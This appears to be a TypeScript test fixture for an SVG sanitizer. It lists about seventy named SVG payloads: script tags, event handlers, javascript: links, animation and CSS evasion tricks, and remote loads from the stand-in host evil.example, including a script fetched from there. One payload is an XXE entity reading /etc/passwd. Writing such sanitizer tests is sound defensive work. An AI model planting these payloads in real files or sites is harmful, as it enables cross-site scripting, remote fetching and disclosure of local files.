/** SVG files that try to run a script, or to fetch something from elsewhere; `alert(1)` and `https://evil.example/` are what they are after. */

const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const EVIL = "https://evil.example/";
const inSvg = (content: string, attributes = "") => `<svg ${SVG} ${XLINK} viewBox="0 0 10 10" ${attributes}>${content}</svg>`;
const base64 = (text: string) => Buffer.from(text).toString("base64");
const NESTED = inSvg("<script>alert(1)</script>");

/** Name → file. Each is XML, so that it is cleaned rather than refused. */
export const PAYLOADS: { readonly [name: string]: string } = {
  script: inSvg("<script>alert(1)</script>"),
  "script in CDATA": inSvg("<script><![CDATA[alert(1)]]></script>"),
  "script by address": inSvg(`<script href="data:text/javascript,alert(1)"/>`),
  "script by xlink": inSvg(`<script xlink:href="data:text/javascript,alert(1)"/>`),
  "script from elsewhere": inSvg(`<script href="${EVIL}x.js"/>`),
  "script with a prefix": `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
  "script of HTML": inSvg(`<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`),
  "script of HTML with a prefix": inSvg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>`),
  "script deep inside what goes": inSvg(`<metadata><g><script>alert(1)</script></g></metadata><script>alert(1)</script>`),
  "script within a definition": inSvg(`<defs><g><script>alert(1)</script></g></defs>`),
  "script within a style": inSvg(`<style><script>alert(1)</script></style>`),
  "script within a title": inSvg(`<title><script>alert(1)</script></title>`),
  onload: inSvg("", 'onload="alert(1)"'),
  "onload with blanks": inSvg("", 'onload\n=\n"alert(1)"'),
  "onload with references": inSvg("", 'onload="&#97;lert(1)"'),
  "onerror of an image": inSvg(`<image href="x:" onerror="alert(1)"/>`),
  "onbegin of an animation": inSvg(`<animate attributeName="x" dur="1s" onbegin="alert(1)"/>`),
  "onend of an animation": inSvg(`<set attributeName="x" to="1" dur="0.01s" onend="alert(1)"/>`),
  "onload of an inner svg": inSvg(`<svg onload="alert(1)"/>`),
  "onfocus with autofocus": inSvg(`<a href="#x" tabindex="1" autofocus="" onfocus="alert(1)"><text y="5">x</text></a>`),
  "HTML in foreignObject": inSvg(
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x:" onerror="alert(1)"/></body></foreignObject>`,
  ),
  "a frame in foreignObject": inSvg(
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>parent.alert(1)&lt;/script>"/></foreignObject>`,
  ),
  "a frame without foreignObject": inSvg(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.alert(1)"/>`),
  "an HTML image without foreignObject": inSvg(`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x:" onerror="alert(1)"/>`),
  "an HTML object": inSvg(`<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="${EVIL}x"/>`),
  "an HTML refresh": inSvg(`<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${EVIL}"/>`),
  "an HTML stylesheet": inSvg(`<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${EVIL}x.css"/>`),
  "a link to a script": inSvg(`<a href="javascript:alert(1)"><rect width="10" height="10"/></a>`),
  "a link by xlink to a script": inSvg(`<a xlink:href="javascript:alert(1)"><rect width="10" height="10"/></a>`),
  "a link hidden by blanks": inSvg(`<a href=" &#9;java&#10;script:alert(1)"><rect width="10" height="10"/></a>`),
  "a link in capitals": inSvg(`<a href="JaVaScRiPt:alert(1)"><rect width="10" height="10"/></a>`),
  "a link to a page in an address": inSvg(`<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><rect width="10" height="10"/></a>`),
  "a link under another name": `<svg ${SVG} xmlns:q="http://www.w3.org/1999/xlink"><a q:href="javascript:alert(1)"><rect width="10" height="10"/></a></svg>`,
  "an animation that makes a link": inSvg(
    `<a href="#"><animate attributeName="href" values="javascript:alert(1)" dur="1s" fill="freeze"/><rect width="10" height="10"/></a>`,
  ),
  "an animation that makes an xlink": inSvg(
    `<a xlink:href="#"><set attributeName="xlink:href" to="javascript:alert(1)" fill="freeze"/><rect width="10" height="10"/></a>`,
  ),
  "an animation with blanks in its name": inSvg(
    `<a href="#"><set attributeName=" href " to="javascript:alert(1)" fill="freeze"/><rect width="10" height="10"/></a>`,
  ),
  "an animation of another element": inSvg(
    `<a id="a" href="#"><rect width="10" height="10"/></a><set href="#a" attributeName="href" to="javascript:alert(1)" fill="freeze"/>`,
  ),
  "an animation that makes a handler": inSvg(
    `<rect width="9" height="9"><set attributeName="onclick" to="alert(1)" fill="freeze"/></rect>`,
  ),
  "an animation that loads a filter": inSvg(`<rect width="9" height="9"><set attributeName="filter" to="url(${EVIL}f.svg#f)"/></rect>`),
  "an animation that sets a style": inSvg(`<rect width="9" height="9"><set attributeName="style" to="fill:url(${EVIL}f.svg#f)"/></rect>`),
  "use of another file": inSvg(`<use href="${EVIL}x.svg#x"/>`),
  "use of an address": inSvg(`<use href="data:image/svg+xml;base64,${base64(NESTED)}#x"/>`),
  "an image from elsewhere": inSvg(`<image href="${EVIL}x.png" width="9" height="9"/>`),
  "an image without a scheme": inSvg(`<image xlink:href="//evil.example/x.png" width="9" height="9"/>`),
  "an image that is an SVG with a script": inSvg(`<image href="data:image/svg+xml;base64,${base64(NESTED)}" width="9" height="9"/>`),
  "an image that is an SVG with a script, not in base64": inSvg(
    `<image href="data:image/svg+xml,${encodeURIComponent(NESTED)}" width="9" height="9"/>`,
  ),
  "a filter's image from elsewhere": inSvg(
    `<filter id="f"><feImage href="${EVIL}x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  "a gradient from elsewhere": inSvg(`<linearGradient id="g" href="${EVIL}x.svg#g"/><rect fill="url(#g)" width="9" height="9"/>`),
  "a pattern by address": inSvg(`<rect fill="url(${EVIL}x.svg#p)" width="9" height="9"/>`),
  "a mask by address in quotes": inSvg(`<rect mask='url("${EVIL}x.svg#m")' width="9" height="9"/>`),
  "a cursor by address": inSvg(`<rect cursor="url(${EVIL}c.png), auto" width="9" height="9"/>`),
  "a style with an address": inSvg(`<rect style="filter: url(${EVIL}x.svg#f)" width="9" height="9"/>`),
  "a style with an escaped address": inSvg(`<rect style="fill: \\75\\72 l(${EVIL}x.svg#p)" width="9" height="9"/>`),
  "an attribute with an escaped address": inSvg(`<rect fill="u\\72l(${EVIL}x.svg#p)" width="9" height="9"/>`),
  "a stylesheet with an import": inSvg(`<style>@import "${EVIL}x.css";</style>`),
  "a stylesheet with an escaped import": inSvg(`<style>@\\69mport url(${EVIL}x.css);</style>`),
  "a stylesheet with an import behind a comment": inSvg(`<style>/**/@import/**/"${EVIL}x.css";</style>`),
  "a stylesheet with an import behind another rule": inSvg(`<style>@charset "utf-8"; @import url("${EVIL}x.css");</style>`),
  "a stylesheet in CDATA": inSvg(`<style><![CDATA[@import url(${EVIL}x.css); rect { fill: url(${EVIL}x) }]]></style>`),
  "a stylesheet in two parts": inSvg(`<style>@imp<!-- -->ort "${EVIL}x.css";</style>`),
  "a stylesheet with a font": inSvg(
    `<style>@font-face { font-family: x; src: url(${EVIL}x.woff) } text { font-family: x }</style><text>x</text>`,
  ),
  "a stylesheet with an image set": inSvg(`<style>svg { background: image-set("${EVIL}x.png" 1x) }</style>`),
  "a stylesheet with a background": inSvg(`<style>svg { background: URL( '${EVIL}x.png' ) }</style>`),
  "a stylesheet with an open string": inSvg(`<style>rect { fill: "\n; background: url(${EVIL}x.png) }</style>`),
  "a stylesheet that ends early": inSvg(`<style>svg { background: url(${EVIL}x.png</style>`),
  "a stylesheet instruction": `<?xml-stylesheet type="text/css" href="${EVIL}x.css"?>${inSvg("")}`,
  "a transformation instruction": `<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl%3E"?>${inSvg("")}`,
  "a base": `<svg ${SVG} xml:base="${EVIL}"><image href="x.png" width="9" height="9"/></svg>`,
  "an outer entity": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inSvg("<text>x</text>")}`,
  "an outer document type": `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${EVIL}svg.dtd">${inSvg("")}`,
  "an entity that spells an attribute": `<!DOCTYPE svg [<!ENTITY js "javascript:alert(1)">]>${inSvg(`<a href="&js;"><rect width="10" height="10"/></a>`)}`,
  "a handler of events": inSvg(
    `<handler xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>`,
  ),
  "a film": inSvg(`<video xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}x.mp4" autoplay=""/>`),
  "text that looks like markup": inSvg(`<text>&lt;script>alert(1)&lt;/script></text>`),
  "a comment that closes early": inSvg(`<!-- > --><script>alert(1)</script><!-- -->`),
};
